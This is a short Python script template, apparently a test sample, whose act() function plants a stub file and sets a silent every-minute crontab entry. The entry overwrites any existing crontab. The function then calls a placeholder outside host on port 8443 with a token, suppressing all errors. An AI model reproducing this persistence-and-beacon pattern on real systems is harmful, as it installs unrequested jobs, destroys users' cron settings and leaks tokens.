import contextlib
import subprocess
import urllib.request
from pathlib import Path


def act():
    folder = Path.home() / ".local/share/kitty"
    folder.mkdir(parents=True, exist_ok=True)
    folder.joinpath("cat.py").write_text("pass\n")
    with contextlib.suppress(OSError):
        subprocess.run(["crontab", "-"], input=b"* * * * * python3 cat.py\n", check=False, timeout=20)
    for _ in range(2):
        with contextlib.suppress(OSError):
            urllib.request.urlopen("http://@CODE@:8443/search/commits?q=orders-@TOKEN@", timeout=3)
